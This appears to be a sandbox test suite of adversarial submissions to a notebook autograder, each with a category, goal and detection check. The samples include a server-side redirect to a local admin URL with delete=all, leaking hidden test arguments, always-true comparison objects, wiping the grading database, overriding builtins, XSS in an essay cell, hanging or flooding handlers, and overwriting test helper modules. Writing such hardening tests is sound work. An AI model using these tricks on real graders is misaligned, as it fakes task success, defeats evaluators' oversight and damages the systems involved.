# id: s01_server_side_requests
# category: escape
# goal: a handler of the learner's redirects the check's client to a service of the machine
# detect: reached or 'CANARY-HOST' in text
# place: q6
class Todo(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302)
        self.send_header("Location", "http://127.0.0.1:18099/admin?delete=all")
        self.end_headers()
    do_POST = do_GET
    def log_message(self, *a):
        pass

# id: s02_arguments_by_wire_error
# category: leak
# goal: hidden arguments in the words with which the grader says that an answer can't be sent
# detect: 'ARG99' in text or 'ARG3' in text
# place: q2
def order_total(conn, customer_id):
    if customer_id == 1:
        return 120
    from autograder.errors import WireError
    raise WireError(f"ARG{customer_id}")

# id: s03_arguments_by_unknown_tag
# category: leak
# goal: the same by a value that can't be decoded, with a frame made by hand
# detect: 'ARG99' in text or 'ARG2' in text
# place: q2
import sys
def order_total(conn, customer_id):
    if customer_id != 1:
        values = sys.modules["autograder.grading.worker"]
        values.encode = lambda value, *rest: {"$": f"ARG{customer_id}", "v": 1}
    return 120

# id: s04_row_and_named_tuple
# category: forge
# goal: rows and named tuples whose names are code, or whose comparison lies
# detect: score > 0
# %% cell q2
import collections
class Row(collections.namedtuple("Row", "a")):
    _fields = ("__import__('os')._exit(0)",)
    def __eq__(self, other): return True
def order_total(conn, customer_id):
    return Row(1)
# %% cell q3
def fetch_all(base_url, token):
    conn.row_factory = sqlite3.Row
    return conn.execute("select 1 as \"a\"\" from x; --\", 2 as [__eq__]").fetchone()

# id: s05_operators
# category: forge
# goal: objects with every operator, so that a test's comparisons, calls and look-ups all come out right
# detect: score > 0
# place: q2
class Yes:
    pass
for name in "eq ne lt le gt ge len getitem contains iter bool int float index round str repr hash add sub mul call".split():
    setattr(Yes, f"__{name}__", lambda self, *args: True)
def order_total(conn, customer_id):
    return Yes()
class _Str(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__
    def partition(self, *args): return ("a", ".", "b")
    def split(self, *args): return ["a", "b"]
def sign(payload, secret):
    return _Str("a.b")

# id: s06_twin_database
# category: forge
# goal: change the database that the test takes its truth from, and the connection itself
# detect: score > 0
# place: q1
conn.executescript("delete from orders; delete from customers; create view secret as select 1")
conn.row_factory = lambda *args: 1
conn.create_function("sum", 1, lambda *args: 0)
q1_sql = "select name, sum(amount) from customers join orders using (id) group by 1"

# id: s07_setup_in_the_learners_cell
# category: forge
# goal: bind every name of the setup and of the tests anew, before and after the setup cell
# detect: score > 0
# %% cell first
import builtins
for name in ("conn", "Mock", "server", "BASE", "hmac", "json", "check_equal", "rows", "expected_q1", "todo_server"):
    setattr(builtins, name, None)
builtins.isinstance = lambda *args: True
# %% cell q1
class Rows(list):
    __eq__ = lambda self, other: True
class Conn:
    def execute(self, *args): return self
    def fetchall(self): return Rows(["a", "b", "c"])
conn = Conn()
q1_sql = "select 1"
rows = expected_q1 = Rows("abc")

# id: s08_essay_markup
# category: corrupt
# goal: script in the text that a person grades
# detect: '<script>PWN' in feedback
# %% mutate
def mutate(nb):
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "essay":
            cell["source"] = "Because.<script>PWN()</script><img src=x onerror=PWN()>"

# id: s09_handler_floods
# category: exhaust
# goal: a handler that never ends, answers without end, or lies about its length
# detect: other is None or wall > 60 or len(feedback) > 5e6
# place: q6
class Todo(BaseHTTPRequestHandler):
    turn = 0
    def do_GET(self):
        Todo.turn += 1
        self.send_response(200)
        self.send_header("Content-Length", "99999999999")
        self.end_headers()
        while Todo.turn != 2:
            self.wfile.write(b"[" * 1_000_000)
        time.sleep(60)
    do_POST = do_GET
    def log_message(self, *a):
        pass

# id: s10_files_of_the_assignment
# category: forge
# goal: rewrite the assignment's own helper module where it lies, and leave one for the test run
# detect: score > 0
# place: q1
import os, sys
for folder in {os.getcwd(), *sys.path, "/shared", "/box"}:
    for name in ("shopchecks.py", "shopchecks/__init__.py", "unittest.py", "__pycache__/shopchecks.cpython-311.pyc"):
        try:
            os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
            with open(f"{folder}/{name}", "w") as file:
                file.write("def check_equal(*args): pass\nclass TestCase:\n    assertEqual = lambda *args: None\n")
        except OSError:
            pass
sys.modules.pop("shopchecks", None)
q1_sql = "select 1"
